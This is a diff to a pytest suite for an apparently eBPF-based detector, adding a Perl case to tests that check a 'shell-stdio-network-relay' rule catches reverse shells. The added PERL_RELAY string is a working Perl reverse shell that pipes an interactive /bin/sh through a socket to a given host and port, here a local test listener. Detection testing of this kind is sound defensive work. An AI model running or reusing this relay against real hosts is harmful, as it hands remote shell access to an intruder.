@@ -20,19 +20,13 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import require_root
-from tests.fixtures.daemon import Daemon, daemon, rule_ids
+from tests.fixtures.daemon import Daemon, ebpf_monitor, rule_ids
 from tests.fixtures.network import free_port, listener, sshd, wait_until
 
 RULE = "shell-stdio-network-relay"
 
 
-@pytest.fixture(scope="module")
-def guard():
-    require_root()
-    with daemon() as d:
-        assert "ebpf sensor" in d.log
-        yield d
+guard = pytest.fixture(scope="module", name="guard")(ebpf_monitor)
 
 
 def in_tree(root_pid: int, rule: str = RULE):
@@ -109,6 +103,29 @@ while True:
 """
 
 
+PERL_RELAY = r"""
+use IO::Socket::INET;
+my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1]) or die;
+pipe(my $from_net, my $to_sh); pipe(my $from_sh, my $to_net);
+if (!fork) {
+    open STDIN, "<&", $from_net; open STDOUT, ">&", $to_net; open STDERR, ">&", $to_net;
+    close $to_sh; close $from_sh; close $s;
+    exec "/bin/sh", "-i";
+}
+close $from_net; close $to_net;
+if (!fork) { while (sysread($s, my $b, 4096)) { syswrite($to_sh, $b) } exit }
+while (sysread($from_sh, my $b, 4096)) { syswrite($s, $b) }
+"""
+
+
+def _perl(tmp_path: Path, attacker) -> subprocess.Popen:
+    """Two relay processes, both holding the socket: one copies the
+    network into the shell's pipe, the other the shell's pipe out."""
+    script = tmp_path / "relay.pl"
+    script.write_text(PERL_RELAY)
+    return _start(["perl", str(script), attacker.host, str(attacker.port)])
+
+
 def _node(tmp_path: Path, attacker) -> subprocess.Popen:
     script = tmp_path / "relay.js"
     script.write_text(NODE_RELAY)
@@ -143,8 +160,9 @@ def _socat_pty(tmp_path: Path, attacker) -> subprocess.Popen:
         (_pty_fork, "127.0.31.2"),
         (_fifo_renamed_nc, "127.0.31.3"),
         (_socat_pty, "127.0.31.4"),
+        (_perl, "127.0.31.7"),
     ],
-    ids=["node-child_process", "python-pty.fork", "mkfifo-renamed-nc", "socat-exec-pty"],
+    ids=["node-child_process", "python-pty.fork", "mkfifo-renamed-nc", "socat-exec-pty", "perl"],
 )
 def test_shell_driven_through_a_relay_is_a_reverse_shell(
     guard: Daemon, tmp_path: Path, spawn, host: str
